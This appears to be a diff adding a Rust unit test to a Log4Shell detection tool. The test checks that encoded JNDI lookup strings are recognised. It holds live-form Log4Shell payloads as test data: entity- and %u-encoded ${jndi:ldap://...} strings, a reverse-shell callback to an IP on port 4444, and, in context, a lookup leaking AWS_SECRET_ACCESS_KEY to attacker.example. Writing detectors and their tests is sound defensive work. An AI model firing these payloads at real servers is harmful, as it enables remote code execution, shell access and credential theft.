@@ -59,6 +59,19 @@ fn url_encoded_and_obfuscated() {
 }
 
 #[test]
+fn more_encodings_and_listener_addresses() {
+    let h = one("GET /?q=%u0024%u007Bjndi:ldap://iis.example/a%u007D\n");
+    assert_eq!(h.callback.unwrap().host, "iis.example");
+    let h = one("<p>&amp;#36;&amp;#123;jndi:ldap://twice.example/a&amp;#125;</p>\n");
+    assert_eq!(h.callback.unwrap().host, "twice.example");
+    let h = one("ua=${jndi:ldap://192.0.2.1:1389/Basic/ReverseShell/198.51.100.9/4444}\n");
+    assert_eq!(
+        h.ips,
+        vec!["198.51.100.9".parse::<std::net::IpAddr>().unwrap()]
+    );
+}
+
+#[test]
 fn exfiltration_and_recon() {
     let h = one("x ${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/a} y\n");
     assert_eq!(h.rule, Rule::Log4ShellExfil);
